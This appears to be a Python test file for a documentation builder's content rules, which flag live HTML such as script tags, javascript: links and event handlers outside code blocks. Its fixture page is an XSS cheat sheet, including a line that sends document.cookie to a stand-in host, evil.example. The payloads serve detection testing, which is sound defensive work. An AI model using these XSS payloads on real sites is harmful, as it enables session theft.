"""The content rules on real-looking pages: code is content, live markup is reported at its own line."""

from __future__ import annotations

import markdown
from hypothesis import given, settings
from hypothesis import strategies as st

from kbpress.codemask import mask_code
from kbpress.contentrules import _Walker, page_findings, page_problems, show_control_characters_in_code

EXTENSIONS = ["admonition", "attr_list", "md_in_html", "tables", "pymdownx.highlight", "pymdownx.superfences"]


def render(text: str) -> str:
    return markdown.markdown(text, extensions=EXTENSIONS)


def problems(text: str, first_line: int = 1) -> list[tuple[int | None, str]]:
    return [(problem.line, problem.message) for problem in page_problems(render(text), text, "docs/x.md", first_line)]


XSS_PAGE = """\
## Reflected XSS

An attacker sends `<script>alert(document.cookie)</script>` in the `q` parameter,
or a link such as `[click](javascript:alert(1))` or `<a href=javascript:alert(1)>`.

```html
<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">
<svg/onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<form action="javascript:steal()"><input name=p></form>
```

~~~js
el.innerHTML = "<a href='JaVaScRiPt:alert(1)'>x</a>"; // \x0b vertical tab in a payload
~~~

| Context | Example |
| --- | --- |
| attribute | `" onmouseover="alert(1)` |
| URL | `javascript:alert(1)` |

    <script>indented code is code too</script>

Inline with a control character: `\x1b[31m` is an ANSI colour escape.
"""


def test_an_xss_cheat_sheet_has_no_findings():
    assert page_findings(render(XSS_PAGE)) == []


def test_code_in_the_page_stays_visible_and_escaped():
    html = render(XSS_PAGE)
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
    shown = show_control_characters_in_code(html)
    assert "\x0b" not in shown and "\x1b" not in shown
    assert "\u240b" in shown and "\u241b" in shown


def test_live_markup_outside_code_is_reported_on_its_line():
    text = XSS_PAGE + '\nClick <a href="javascript:alert(1)">here</a>.\n\n<script src="x.js"></script>\n\n<p onclick="go()">a</p>\n'
    found = problems(text, first_line=10)
    lines = XSS_PAGE.count("\n") + 10
    assert [(line, message.split(" ")[0]) for line, message in found] == [
        (lines + 1, "javascript:"), (lines + 3, "<script>"), (lines + 5, "on*")
    ]


def test_javascript_url_written_as_markdown_link_is_found():
    found = problems("# t\n\n`javascript:x` is shown; this is not:\n\n[go](javascript:alert(1))\n")
    assert [line for line, _ in found] == [5]


def test_repeated_findings_each_get_their_own_line():
    text = "a\n\n<script>1</script>\n\nb `<script>` c\n\n<script>2</script>\n"
    assert [line for line, _ in problems(text)] == [3, 7]


def test_control_character_outside_code_is_reported_inside_code_is_not():
    text = "first\n\n`\x0b in code`\n\nsecond line with \x0c form feed\n"
    found = problems(text)
    assert len(found) == 1 and found[0][0] == 5 and "制御文字" in found[0][1]


def test_entity_encoded_javascript_scheme_is_still_live():
    # &#106; is "j": the parser decodes it, as browsers do.
    found = problems('<a href="&#106;avascript:alert(1)">x</a>\n')
    assert len(found) == 1 and "javascript:" in found[0][1]


def test_table_right_under_a_paragraph_is_reported_at_its_delimiter_row():
    text = "## 比較\n\n| ok | table |\n|----|----|\n| 1 | 2 |\n\n次の表を見てください。\n| Name | Value |\n|------|-------|\n| a | b |\n"
    found = problems(text)
    assert len(found) == 1 and found[0][0] == 9 and "空行" in found[0][1]


def test_table_with_a_blank_line_before_it_is_fine():
    assert problems("次の表を見てください。\n\n| Name | Value |\n| :--- | ---: |\n| a | b |\n") == []


def test_image_without_alt_is_reported_at_its_own_line():
    found = problems("![図](a.png)\n\n![](flow.png)\n\n![](flow.png)\n")
    assert [line for line, _ in found] == [3, 5]


def test_an_unclosed_fence_is_not_code_and_its_live_markup_is_placed():
    text = "intro\n\n```html\n<script>alert(1)</script>\n```not a closing fence\n"
    assert mask_code(text) == text
    assert [line for line, _ in problems(text)] == [4]


def test_mask_keeps_lines_and_blanks_code():
    text = "a `b` c\n```\n<script>\n```\nd ``e ` f`` g\n"
    masked = mask_code(text)
    assert masked.count("\n") == text.count("\n") and len(masked) == len(text)
    assert "<script>" not in masked and "b" not in masked.split("\n")[0] and " e " not in masked
    assert masked.split("\n")[4].startswith("d ") and masked.split("\n")[4].endswith(" g")


FRAGMENTS = ["<p>", "</p>", "<script>", "<SCRIPT ", "<iframe>", "<embed ", "<form", "<img", ' src="a.png"', ' alt=""',
             ' alt="図"', ' onclick="x"', " ONLOAD = ", " online", ' href="', "javascript:", "&#106;avascript:", "JaVa",
             "<code>", "</code>", "<pre>", "</pre>", "\x0b", "\x1b", "|", "---", "| --- |", "\n", "本文", " ", ">", '"', "=", "/", "<svg", "onload=", "x"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
def test_screens_never_hide_a_finding(html):
    walker = _Walker()
    walker.feed(html)
    walker.close()
    assert page_findings(html) == walker.findings


def test_a_link_written_twice_is_reported_at_each_line(fixture_project):
    fixture_project.write("docs/articles/a.md", "---\ntitle: 題\ndescription: 要約。\ncategory: mail\naudience: [従業員]\n"
                          "updated: 2025-09-01\n---\n[手順](gone.md) は\n\n後でもう一度: [手順](gone.md)\n")
    result = fixture_project.check()
    assert [line.split(" ")[0] for line in result.stdout.splitlines()] == ["docs/articles/a.md:8:", "docs/articles/a.md:10:"]
